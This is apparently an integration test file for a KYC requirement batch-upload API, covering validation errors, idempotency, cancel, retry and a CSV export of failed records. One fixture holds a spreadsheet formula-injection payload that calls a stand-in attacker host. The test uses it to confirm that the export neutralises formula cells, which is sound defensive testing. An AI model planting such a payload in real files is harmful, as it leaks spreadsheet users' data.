// Batches of requirement submissions over HTTP against real workers (interface v1.1.0): the JSON
// Lines file's rules, each record checked as its single endpoint would check it (a passing and a
// failing case each, the bad record failing alone with its line, category and field), idempotency as
// the batch import has it, canonical KYC data that opens the person's submission (decided at once
// with a document, waiting for one without), other requirements stored, another business's ids,
// cancel, retry, the failed records as CSV, and deletion taking a record's value with it.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startReceiver, type Receiver } from '../helpers/receiver.ts';
import { createRequirementBatch } from '../../store/requirement-batches.ts';
import { createStarters } from '../../temporal/starters.ts';
import { startStack, type Stack } from '../helpers/stack.ts';
import { canonicalPayload, FILES, filesForm } from '../helpers/ukyc.ts';
import * as world from '../helpers/world.ts';

const DEADLINE_SECONDS = 600;

describe('requirement batches', () => {
  let stack: Stack;
  let key: string;
  let otherKey: string;
  let receiver: Receiver;
  let n = 0;

  before(async () => {
    stack = await startStack({ workers: true, env: { WEBHOOK_ALLOW_INSECURE_URLS: 'true', UKYC_SUBMISSION_DEADLINE_SECONDS: String(DEADLINE_SECONDS) } });
    receiver = await startReceiver();
    ({ apiKey: key } = await stack.newBusiness({ name: 'Batches' }));
    ({ apiKey: otherKey } = await stack.newBusiness({ name: 'Other' }));
    const sub = await world.subscribe(stack, key, receiver.url);
  });
  after(async () => {
    await receiver.close();
    await stack.close();
  });

  const entity = async (type: 'INDIVIDUAL' | 'BUSINESS' = 'INDIVIDUAL', k = key, requirements?: unknown[]) => {
    const externalId = `rb-${type}-${n++}-${Date.now()}`;
    return { id: await world.entity(stack, k, externalId, type, requirements), externalId };
  };
  const lines = (records: unknown[]) => records.map((r) => (typeof r === 'string' ? r : JSON.stringify(r))).join('\n') + '\n';
  const upload = (body: string | Buffer, options: { k?: string; idempotencyKey?: string | null } = {}) => {
    const form = new FormData();
    form.append('file', new Blob([body]), 'records.jsonl');
    const headers: Record<string, string> =
      options.idempotencyKey === null ? {} : { 'Idempotency-Key': options.idempotencyKey ?? `key-${n++}-${Math.random()}` };
    return stack.request('POST', '/entity/requirement/batch', { key: options.k ?? key, form, headers });
  };
  const status = (batchId: string, k = key) => stack.request('GET', `/entity/requirement/batch/${batchId}`, { key: k });
  const finishedFor = async (batchId: string, k: string, timeoutMs = 90_000) => {
    let last: any;
    return world.eventually(
      `batch ${batchId} finished`,
      async () => {
        const res = await status(batchId, k);
        assert.equal(res.status, 200, res.text);
        last = res.body.status;
        return ['completed', 'failed', 'canceled'].includes(res.body.status) && res.body;
      },
      { timeoutMs, everyMs: 200, state: () => last },
    );
  };
  const finished = (batchId: string) => finishedFor(batchId, key);
  const decisionsOf = async (entityId: string, count = 1, timeoutMs = 30_000) => {
    const mine = () => receiver.received.map((r) => JSON.parse(r.body.toString())).filter((b) => b.data.entityId === entityId);
    return world.eventually(`${count} decisions for ${entityId}`, () => mine().length >= count && mine(), { timeoutMs, everyMs: 100 });
  };
  const canonical = (change?: (p: any) => void) => JSON.stringify(canonicalPayload(change));
  const passport = (entityId: string, query = '') =>
    stack.request('POST', `/entity/${entityId}/requirement-slug/ukyc-id-document/upload${query}`, {
      key,
      form: filesForm([{ bytes: FILES.pdf, name: 'p.pdf' }]),
    });
  const errorsByRow = (body: any) => new Map<number, any>(body.summary.errors.map((e: any) => [e.rowNumber, e]));

  it('decides a person with a document at once, leaves one without waiting, and stores other requirements; each record by its line', async () => {
    const withDoc = await entity();
    assert.equal((await passport(withDoc.id)).status, 201);
    const waiting = await entity();
    const company = await entity('BUSINESS');
    const res = await upload(
      lines([
        { entityId: withDoc.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { externalId: waiting.externalId, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { entityId: company.id, requirementSlug: 'kyb-legal-name', value: 'Acme Holdings Ltd' },
        { entityId: company.id, requirementSlug: 'kyb-regulated-entity', value: true },
      ]),
    );
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.status, 'pending');
    assert.equal(res.body.totalRecords, 4);
    assert.match(res.body.message, /4 records queued/);
    const done = await finished(res.body.batchId);
    assert.equal(done.status, 'completed');
    assert.equal(done.processedRecords, 4);
    assert.equal(done.failedRecords, 0);
    assert.deepEqual(done.summary, { successfulRecords: 4, decided: 1, waitingForDocuments: 1, errors: [] });
    assert.ok(done.completedAt && done.startedAt);
    const [decision] = await decisionsOf(withDoc.id);
    assert.equal(decision.data.status, 'APPROVED');
    // the waiting person is decided once the document arrives, by the submission's workflow
    assert.equal((await passport(waiting.id)).status, 201);
    const [later] = await decisionsOf(waiting.id);
    assert.equal(later.data.status, 'APPROVED');
    const read = await stack.request('GET', `/entity/${company.id}`, { key });
    const values = new Map((read.body.submittedRequirements as any[]).map((r) => [r.requirementSlug, r.value]));
    assert.equal(values.get('kyb-legal-name'), 'Acme Holdings Ltd');
    assert.equal(values.get('kyb-regulated-entity'), true);
  });

  it('fails each bad record alone with its line, category and field; the good ones go on', async () => {
    const person = await entity();
    const person2 = await entity();
    const company = await entity('BUSINESS');
    const foreign = await entity('INDIVIDUAL', otherKey);
    const res = await upload(
      lines([
        'not json',
        '[1,2]',
        { requirementSlug: 'kyb-legal-name', value: 'x' },
        { entityId: person.id, externalId: person.externalId, requirementSlug: 'kyb-legal-name', value: 'x' },
        { entityId: foreign.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { entityId: person.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical((p) => (p.identity.dob = '2020-01-01')) },
        { entityId: company.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { entityId: person.id, memberId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { entityId: company.id, memberId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() },
        { entityId: person.id, requirementSlug: 'kyb-legal-name', value: 'x' },
        { entityId: company.id, requirementSlug: 'ukyb-certificate-of-incorporation', value: 'x' },
        { entityId: company.id, requirementSlug: 'kyb-ubo-declaration', value: { members: [{ entityId: person.id, role: 'UBO' }] } },
        { entityId: company.id, requirementSlug: 'kyb-annual-turnover', value: 'a lot' },
        { entityId: company.id, requirementSlug: 'no-such-slug', value: 1 },
        { entityId: person2.id, requirementSlug: 'card-processor-public-token', value: '123456789' },
        { entityId: person2.id, requirementSlug: 'card-processor-public-token', value: '987654321' },
        { entityId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical(), extra: 1 },
        { entityId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: { not: 'a string' } },
        { externalId: '=HYPERLINK("https://attacker.example/?"&B2)', requirementSlug: 'kyb-legal-name', value: 'x' },
      ]),
    );
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.totalRecords, 19);
    assert.match(res.body.message, /18 records failed on their own/);
    const done = await finished(res.body.batchId);
    assert.equal(done.summary.successfulRecords, 1);
    assert.equal(done.failedRecords, 18);
    const e = errorsByRow(done);
    const expect = (row: number, category: string, path: string) => {
      assert.equal(e.get(row)?.errorDetail.category, category, `line ${row}: ${JSON.stringify(e.get(row))}`);
      assert.equal(e.get(row)?.errorDetail.path, path, `line ${row}`);
      assert.equal(e.get(row)?.errorDetail.retryable, false);
    };
    expect(1, 'INVALID_RECORD', '');
    expect(2, 'INVALID_RECORD', '');
    expect(3, 'INVALID_RECORD', 'entityId');
    expect(4, 'INVALID_RECORD', 'externalId');
    expect(5, 'ENTITY_NOT_FOUND', 'entityId'); // another business's entity is not found
    expect(6, 'INVALID_VALUE', 'value.identity.dob');
    expect(7, 'PERSON_REQUIRED', 'memberId');
    expect(8, 'PERSON_REQUIRED', 'memberId');
    expect(9, 'MEMBER_NOT_FOUND', 'memberId');
    expect(10, 'REQUIREMENT_NOT_ACCEPTED', 'requirementSlug');
    expect(11, 'REQUIREMENT_NOT_ACCEPTED', 'requirementSlug');
    expect(12, 'REQUIREMENT_NOT_ACCEPTED', 'requirementSlug');
    expect(13, 'INVALID_VALUE', 'value');
    expect(14, 'REQUIREMENT_NOT_ACCEPTED', 'requirementSlug');
    assert.equal(e.has(15), false);
    expect(16, 'DUPLICATE_RECORD', 'requirementSlug');
    expect(17, 'INVALID_RECORD', 'extra');
    expect(18, 'INVALID_VALUE', 'value');
    expect(19, 'ENTITY_NOT_FOUND', 'externalId');
    assert.match(e.get(6).error, /18/);
    assert.deepEqual(e.get(5).entityData, { entityId: foreign.id, requirementSlug: 'ukyc-canonical-kyc-data' });
    // nothing reached the other business's entity
    const theirs = await stack.request('GET', `/entity/${foreign.id}`, { key: otherKey });
    assert.deepEqual(theirs.body.submittedRequirements, []);
    // a page of the errors
    const page = await stack.request('GET', `/entity/requirement/batch/${res.body.batchId}?page=2&limit=5`, { key });
    assert.deepEqual(
      page.body.summary.errors.map((x: any) => x.rowNumber),
      [6, 7, 8, 9, 10],
    );
    assert.equal(page.body.meta.totalItems, 18);
    // the failed records as CSV, values included, formula cells neutralised
    const csv = await stack.request('GET', `/entity/requirement/batch/${res.body.batchId}/failed-records`, { key });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type')!, /text\/csv/);
    const rows = csv.text.trim().split('\n');
    assert.equal(rows[0], 'rowNumber,entityId,externalId,memberId,requirementSlug,value,errorCategory,errorPath,errorMessage,retryable');
    assert.equal(rows.length, 19);
    assert.match(csv.text, /^13,[^,]*,,,kyb-annual-turnover,"""a lot""",INVALID_VALUE,value,/m);
    // a cell a spreadsheet would take for a formula is written as text (a leading apostrophe)
    assert.ok(rows.at(-1)!.startsWith(`19,,"'=HYPERLINK(""https://attacker.example/?""&B2)",`), rows.at(-1));
  });

  it("a step's records are written together; when one cannot be, the others are handled at once, one by one, and it when it can", async () => {
    const people = [await entity(), await entity(), await entity()];
    for (const p of people) assert.equal((await passport(p.id)).status, 201);
    const stuck = people[1]!.id;
    // a fault the middle person's decision meets (as a database error would), until it is taken away
    await stack.db.query(
      `CREATE FUNCTION rb_fault() RETURNS trigger LANGUAGE plpgsql AS $$
       BEGIN IF NEW.entity_id = '${stuck}' THEN RAISE EXCEPTION 'injected fault'; END IF; RETURN NEW; END $$`,
    );
    await stack.db.query('CREATE TRIGGER rb_fault BEFORE INSERT ON record_kyc_accounts FOR EACH ROW EXECUTE FUNCTION rb_fault()');
    try {
      const res = await upload(lines(people.map((p) => ({ entityId: p.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() }))));
      assert.equal(res.status, 201, res.text);
      // the step failed as a whole (nothing of it committed), then each record on its own: the other two are decided now
      await decisionsOf(people[0]!.id);
      await decisionsOf(people[2]!.id);
      const meanwhile = await status(res.body.batchId);
      assert.equal(meanwhile.body.status, 'in_progress');
      assert.equal(meanwhile.body.processedRecords, 2);
      await stack.db.query('DROP TRIGGER rb_fault ON record_kyc_accounts');
      const done = await finished(res.body.batchId);
      assert.equal(done.status, 'completed');
      assert.deepEqual(done.summary, { successfulRecords: 3, decided: 3, waitingForDocuments: 0, errors: [] });
      await decisionsOf(stuck);
      await new Promise((r) => setTimeout(r, 500));
      for (const p of people) assert.equal((await decisionsOf(p.id)).length, 1, 'each person decided once');
    } finally {
      await stack.db.query('DROP TRIGGER IF EXISTS rb_fault ON record_kyc_accounts');
      await stack.db.query('DROP FUNCTION IF EXISTS rb_fault()');
    }
  });

  it('names a member of a business entity with memberId: the person', async () => {
    const owner = await entity();
    assert.equal((await passport(owner.id)).status, 201);
    const company = await entity('BUSINESS', key, [{ requirementSlug: 'kyb-ubo-declaration', value: { members: [{ entityId: owner.id, role: 'UBO' }] } }]);
    const res = await upload(
      lines([{ externalId: company.externalId, memberId: owner.id.toUpperCase(), requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() }]),
    );
    assert.equal(res.status, 201, res.text);
    const done = await finished(res.body.batchId);
    assert.deepEqual([done.summary.successfulRecords, done.summary.decided], [1, 1]);
    const [decision] = await decisionsOf(owner.id);
    assert.equal(decision.data.status, 'APPROVED');
  });

  it("refuses the file, not a record, for the interface's reasons, and changes nothing", async () => {
    const person = await entity();
    const record = lines([{ entityId: person.id, requirementSlug: 'kyb-legal-name', value: 'x' }]);
    const noKey = await upload(record, { idempotencyKey: null });
    assert.deepEqual([noKey.status, noKey.body.code, noKey.body.parameter], [400, '0701010200', 'Idempotency-Key']);
    const empty = await upload('\n\n');
    assert.deepEqual([empty.status, empty.body.code], [400, '0701010200']);
    const notUtf8 = await upload(Buffer.from([0x7b, 0xff, 0xfe, 0x7d, 0x0a]));
    assert.deepEqual([notUtf8.status, notUtf8.body.code], [400, '0701010200']);
    const tooMany = await upload('{}\n'.repeat(5001));
    assert.deepEqual([tooMany.status, tooMany.body.code, tooMany.body.errorKey], [400, '0701010100', 'kyc_batch.upload.file_too_large']);
    const longLine = await upload(`{"value":"${'x'.repeat(300 * 1024)}"}\n`);
    assert.deepEqual([longLine.status, longLine.body.code], [400, '0701010200']);
    const noFile = await stack.request('POST', '/entity/requirement/batch', { key, form: new FormData(), headers: { 'Idempotency-Key': 'k-none' } });
    assert.deepEqual([noFile.status, noFile.body.code], [400, '0701010200']);
    const noAuth = await stack.request('POST', '/entity/requirement/batch', { form: new FormData() });
    assert.equal(noAuth.status, 401);
    // canonical KYC data needs a subscription for its decision (spec 1.4), as on the single endpoint
    const other = await entity('INDIVIDUAL', otherKey);
    const unsubscribed = await upload(lines([{ entityId: other.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() }]), { k: otherKey });
    assert.deepEqual([unsubscribed.status, unsubscribed.body.code], [409, '0707000100']);
    // nor does a disabled subscription (its decisions would be held, not delivered): the refusal names it and how to enable it
    const sub = await world.subscribe(stack, otherKey, receiver.url);
    await stack.db.query("UPDATE notification_subscriptions SET failing_since = now() - interval '6 days', disabled_at = now() WHERE id = $1", [sub.body.id]);
    const disabled = await upload(lines([{ entityId: other.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() }]), { k: otherKey });
    assert.deepEqual([disabled.status, disabled.body.code], [409, '0707000100']);
    assert.ok(disabled.body.message.includes(`POST /notification/${sub.body.id}/enable`), disabled.body.message);
    const mine = await stack.request('GET', `/entity/${person.id}`, { key });
    assert.deepEqual(mine.body.submittedRequirements, []);
  });

  it('is idempotent as the batch import: the same key and file → the same batch; another file or a finished batch → 0701010300', async () => {
    const person = await entity();
    const file = lines([{ entityId: person.id, requirementSlug: 'card-processor-public-token', value: '555666777' }]);
    const first = await upload(file, { idempotencyKey: `idem-${person.id}` });
    assert.equal(first.status, 201, first.text);
    // the same key and file: the same batch while it runs, key_already_processed once it has finished (a one-record batch may finish first)
    const again = await upload(file, { idempotencyKey: `idem-${person.id}` });
    if (again.status === 201) assert.equal(again.body.batchId, first.body.batchId);
    else
      assert.deepEqual(
        [again.status, again.body.code, again.body.reason, again.body.batchId],
        [400, '0701010300', 'key_already_processed', first.body.batchId],
      );
    const otherFile = await upload(file + '\n', { idempotencyKey: `idem-${person.id}` });
    const reason = otherFile.body.reason as string;
    assert.deepEqual([otherFile.status, otherFile.body.code], [400, '0701010300']);
    // a finished batch's key answers key_already_processed before its file is read; a running one's, key_used_for_other_file
    assert.ok(['key_used_for_other_file', 'key_already_processed'].includes(reason), reason);
    const sameContent = await upload(file);
    assert.deepEqual(
      [sameContent.status, sameContent.body.code, sameContent.body.reason, sameContent.body.batchId],
      [400, '0701010300', 'same_content', first.body.batchId],
    );
    await finished(first.body.batchId);
    const afterwards = await upload(file, { idempotencyKey: `idem-${person.id}` });
    assert.deepEqual([afterwards.body.code, afterwards.body.reason], ['0701010300', 'key_already_processed']);
    const rows = await stack.db.query('SELECT count(*)::int AS n FROM requirement_batches WHERE id = $1', [first.body.batchId]);
    assert.equal(rows[0]!.n, 1);
  });

  it("another business's batch is not found; cancel and retry answer as the batch import's", async () => {
    const person = await entity();
    const res = await upload(lines([{ entityId: person.id, requirementSlug: 'card-processor-public-token', value: '111222333' }]));
    assert.equal(res.status, 201);
    const theirs = await status(res.body.batchId, otherKey);
    assert.deepEqual([theirs.status, theirs.body.code], [404, '0701020100']);
    assert.equal((await stack.request('POST', `/entity/requirement/batch/${res.body.batchId}/cancel`, { key: otherKey })).status, 404);
    await finished(res.body.batchId);
    const cancel = await stack.request('POST', `/entity/requirement/batch/${res.body.batchId}/cancel`, { key });
    assert.deepEqual([cancel.status, cancel.body.code], [409, '0701020200']);
    const retry = await stack.request('POST', `/entity/requirement/batch/${res.body.batchId}/retry`, { key });
    assert.equal(retry.status, 409);
    assert.equal(retry.body.parameter, 'batchId');
  });

  it('a canceled batch submits nothing more; retry submits what it left', async () => {
    // 1,500 business entities made directly (the API would take longer than the batch): the batch runs for seconds
    const { apiKey, businessId } = await stack.newBusiness({ name: 'Cancel' });
    const ids: string[] = (
      await stack.db.query<{ id: string }>(
        `INSERT INTO entity_records (id, business_id, external_id, type)
         SELECT gen_random_uuid(), $1, 'c-' || g, 'BUSINESS' FROM generate_series(1, 1500) g RETURNING id`,
        [businessId],
      )
    ).map((r) => String(r.id));
    const res = await upload(lines(ids.map((id) => ({ entityId: id, requirementSlug: 'kyb-legal-name', value: `Company ${id}` }))), { k: apiKey });
    assert.equal(res.status, 201, res.text);
    const cancel = await stack.request('POST', `/entity/requirement/batch/${res.body.batchId}/cancel`, { key: apiKey });
    assert.equal(cancel.status, 200, cancel.text);
    assert.equal(cancel.body.status, 'canceled');
    assert.ok(cancel.body.canceledAt);
    // records already in a step finish; then nothing moves
    // the count stops moving: two looks 300 ms apart agree
    let processed = -1;
    await world.eventually(
      'the processed count settled',
      async () => {
        const now = (await status(res.body.batchId, apiKey)).body.processedRecords as number;
        const settled = now === processed;
        processed = now;
        return settled;
      },
      { timeoutMs: 15_000, everyMs: 300 },
    );
    assert.ok(processed < 1500, `${processed} records processed after the cancel`);
    await new Promise((r) => setTimeout(r, 1000));
    const stopped = (await status(res.body.batchId, apiKey)).body;
    assert.deepEqual([stopped.status, stopped.processedRecords], ['canceled', processed]);
    const retry = await stack.request('POST', `/entity/requirement/batch/${res.body.batchId}/retry`, { key: apiKey });
    assert.deepEqual([retry.status, retry.body.requeuedRecords], [202, 1500 - processed]);
    const done = await finishedFor(res.body.batchId, apiKey);
    assert.deepEqual([done.status, done.summary.successfulRecords, done.failedRecords], ['completed', 1500, 0]);
    // each record once: one requirement.submitted value per company
    const values = await stack.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM entity_requirements r JOIN entities e ON e.id = r.entity_id
        WHERE e.business_id = $1 AND r.requirement_slug = 'kyb-legal-name'`,
      [businessId],
    );
    assert.equal(values[0]!.n, 1500);
  });

  it("deleting an entity takes its records' values with it; a pending record then fails ENTITY_NOT_FOUND", async () => {
    const person = await entity();
    const res = await upload(lines([{ entityId: person.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical((p) => (p.identity.dob = 'nope')) }]));
    assert.equal(res.status, 201);
    const before = await stack.db.query('SELECT value FROM requirement_batch_records WHERE batch_id = $1', [res.body.batchId]);
    assert.ok(before[0]!.value);
    assert.equal((await stack.request('DELETE', `/entity/${person.id}`, { key })).status, 204);
    const afterDelete = await stack.db.query('SELECT value, target_entity_id FROM requirement_batch_records WHERE batch_id = $1', [res.body.batchId]);
    assert.deepEqual(afterDelete[0], { value: null, target_entity_id: null });
  });

  it('a record whose entity is deleted while it waits fails ENTITY_NOT_FOUND when its turn comes; the others go on', async () => {
    const [gone, kept] = [await entity(), await entity()];
    const businessId = (await stack.db.query<{ business_id: string }>('SELECT business_id FROM entities WHERE id = $1', [kept.id]))[0]!.business_id;
    // stored as an upload stores it, its run not started yet: the delete comes between the two
    const record = (rowNumber: number, entityId: string, value: string) => ({
      rowNumber,
      entityId,
      externalId: null,
      memberId: null,
      requirementSlug: 'card-processor-public-token',
      value: JSON.stringify(value),
      cardProcessorPublicToken: null,
      targetEntityId: entityId,
    });
    const batch = await createRequirementBatch(stack.db, {
      businessId,
      idempotencyKey: `pending-${gone.id}`,
      contentSha256: gone.id,
      fileName: null,
      records: [record(1, gone.id, '300200100'), record(2, kept.id, '300200101')],
    });
    assert.equal((await stack.request('DELETE', `/entity/${gone.id}`, { key })).status, 204);
    await createStarters(stack.temporal, stack.config).requirementBatchRun(batch.id, 1, businessId);
    const done = await finished(batch.id);
    assert.deepEqual([done.status, done.summary.successfulRecords, done.failedRecords], ['completed', 1, 1]);
    assert.deepEqual(
      [done.summary.errors[0].rowNumber, done.summary.errors[0].errorDetail.category, done.summary.errors[0].errorDetail.retryable],
      [1, 'ENTITY_NOT_FOUND', false],
    );
    const read = await stack.request('GET', `/entity/${kept.id}`, { key });
    assert.deepEqual(
      (read.body.submittedRequirements as any[]).map((r) => [r.requirementSlug, r.value]),
      [['card-processor-public-token', '300200101']],
    );
  });
});
